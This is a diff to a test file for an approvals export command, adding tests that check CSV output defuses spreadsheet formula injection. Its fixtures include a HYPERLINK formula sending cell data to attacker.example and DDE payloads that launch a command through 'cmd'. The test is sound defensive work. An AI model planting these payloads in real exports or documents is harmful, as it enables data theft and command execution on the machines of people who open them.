@@ -17,6 +17,13 @@ function approvalsCli(cosmos: EmbeddedCosmos, ...args: string[]): Promise<{ code
   );
 }
 
+/** A question, a requester's name and a rejection reason as an attacker writes them. */
+const FORMULAS = {
+  question: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
+  requesterName: "@SUM(1+1)*cmd|' /C calc'!A0",
+  reason: "-2+3+cmd|' /C calc'!A0",
+};
+
 describe("npm run approvals -- export", function () {
   this.timeout(60_000);
   let cosmos: EmbeddedCosmos;
@@ -71,7 +78,24 @@ describe("npm run approvals -- export", function () {
       audit: [decisionAudit("2026-05-02T12:00:00.000Z", "aad-maria", "reject", "予算超過")],
     });
     const pending = approvalRecord({ id: "appr-pending", createdAt: "2026-05-03T08:00:00.000Z" });
-    for (const approval of [rejected, pending, edited]) assert.equal((await store.approvals.create(approval)).kind, "written");
+    // What an attacker writes where the export repeats it: formulas a spreadsheet would run.
+    const formulas = approvalRecord({
+      id: "appr-formulas",
+      createdAt: "2026-05-04T08:00:00.000Z",
+      status: "rejected",
+      question: FORMULAS.question,
+      requesterName: FORMULAS.requesterName,
+      decision: {
+        byAadObjectId: "aad-maria",
+        byName: "\tMaria",
+        at: "2026-05-04T09:00:00.000Z",
+        kind: "reject",
+        comment: FORMULAS.reason,
+        before: "+1+1",
+        after: "\r=1+1",
+      },
+    });
+    for (const approval of [rejected, pending, edited, formulas]) assert.equal((await store.approvals.create(approval)).kind, "written");
     await store.close();
   });
 
@@ -97,13 +121,37 @@ describe("npm run approvals -- export", function () {
         ["appr-edited", "edit", "Kenji Sato", "45", "yes", "edit", "aad-kenji"],
         ["appr-rejected", "reject", "Maria Ito", "120", "no", "reject", "aad-maria"],
         ["appr-pending", "", "", "", "no", "", ""],
+        ["appr-formulas", "reject", "'\tMaria", "60", "no", "", ""],
       ],
     );
     assert.equal(rows[0].auditDetail, "refused: the requester may not decide");
     assert.equal(rows[1].answerAfter, 'Renew at +5%, the contract\'s cap; "+8%" needs a new negotiation.', "quotes and separators survive");
     assert.equal(rows[2].question, "取引先A社と5000万円の契約を結べますか？");
     assert.equal(rows[0].approverThreadActivityId, "111");
-    assert.match(stderr, /exported 3 approvals \(csv\)/);
+    assert.match(stderr, /exported 4 approvals \(csv\)/);
+  });
+
+  it("writes no cell a spreadsheet would run: a text starting with = + - @ tab or CR gets a leading quote (OWASP)", async () => {
+    const { code, stdout } = await approvalsCli(cosmos, "export", "--since", "2026-05-04");
+    assert.equal(code, 0);
+    const [row] = parse<Record<string, string>>(stdout, { bom: true, columns: true });
+    assert.deepEqual(
+      [row.question, row.requesterName, row.comment, row.approverName, row.answerBefore, row.answerAfter],
+      [`'${FORMULAS.question}`, `'${FORMULAS.requesterName}`, `'${FORMULAS.reason}`, "'\tMaria", "'+1+1", "'\r=1+1"],
+    );
+    const rows: string[][] = parse(stdout, { bom: true, from_line: 2 });
+    assert.ok(
+      rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)),
+      "no cell starts a formula",
+    );
+    assert.ok(stdout.split("\r\n")[1].startsWith('"'), "every field is quoted");
+    const json = await approvalsCli(cosmos, "export", "--since", "2026-05-04", "--format", "json");
+    const [entry] = JSON.parse(json.stdout) as { question: string; requesterName: string; comment: string }[];
+    assert.deepEqual(
+      [entry.question, entry.requesterName, entry.comment],
+      [FORMULAS.question, FORMULAS.requesterName, FORMULAS.reason],
+      "JSON as stored",
+    );
   });
 
   it("--since keeps approvals created from that date; --format json keeps each approval with all its audit entries", async () => {
@@ -115,6 +163,7 @@ describe("npm run approvals -- export", function () {
       [
         ["appr-rejected", 7_200_000, 1],
         ["appr-pending", null, 0],
+        ["appr-formulas", 3_600_000, 0],
       ],
     );
   });
